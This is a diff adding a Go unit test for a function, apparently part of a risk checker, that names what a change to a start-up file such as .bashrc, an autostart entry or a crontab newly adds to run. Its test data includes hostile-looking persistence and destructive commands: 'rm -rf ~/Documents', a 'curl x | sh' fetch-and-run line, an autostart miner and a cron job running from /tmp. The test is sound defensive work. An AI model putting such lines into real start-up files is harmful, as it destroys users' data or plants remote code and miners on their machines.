@@ -60,3 +60,29 @@ func TestWhatRunsFromTheContent(t *testing.T) {
 		t.Errorf("a broken .lnk: %q", got)
 	}
 }
+
+// TestWhatRunsAddedLeadsWithTheChange: a change of a start-up file that
+// exists is named by what it adds (a .bashrc keeping its prompt line and
+// appending a removal is about the removal, not the prompt); a new file
+// by what it runs; a change that adds nothing runnable says nothing.
+func TestWhatRunsAddedLeadsWithTheChange(t *testing.T) {
+	bashrc := "export PS1=\"\\u@\\h$ \"\nalias ll='ls -l'\n"
+	for _, c := range []struct {
+		name, path string
+		old        []byte
+		new, want  string
+	}{
+		{"appended", "/home/u/.bashrc", []byte(bashrc), bashrc + "rm -rf ~/Documents\n", "rm -rf ~/Documents"},
+		{"inserted before", "/home/u/.bashrc", []byte(bashrc), "curl x | sh\n" + bashrc, "curl x | sh"},
+		{"a repeated line added", "/home/u/.bashrc", []byte("echo hi\n"), "echo hi\necho hi\n", "echo hi"},
+		{"only a comment added", "/home/u/.bashrc", []byte(bashrc), bashrc + "# a note\n", ""},
+		{"nothing added", "/home/u/.bashrc", []byte(bashrc), "export PS1=\"\\u@\\h$ \"\n", ""},
+		{"a new file", "/home/u/.bashrc", nil, bashrc, `export PS1="\u@\h$ "`},
+		{"a changed Exec line", "/home/u/.config/autostart/x.desktop", []byte("[Desktop Entry]\nExec=/usr/bin/true\n"), "[Desktop Entry]\nExec=/usr/bin/miner\n", "/usr/bin/miner"},
+		{"an added cron line", "/var/spool/cron/crontabs/u", []byte("0 * * * * /bin/backup\n"), "0 * * * * /bin/backup\n*/5 * * * * /tmp/x\n", "/tmp/x"},
+	} {
+		if got := risk.WhatRunsAdded(c.path, c.old, []byte(c.new)); got != c.want {
+			t.Errorf("%s: WhatRunsAdded = %q, want %q", c.name, got, c.want)
+		}
+	}
+}
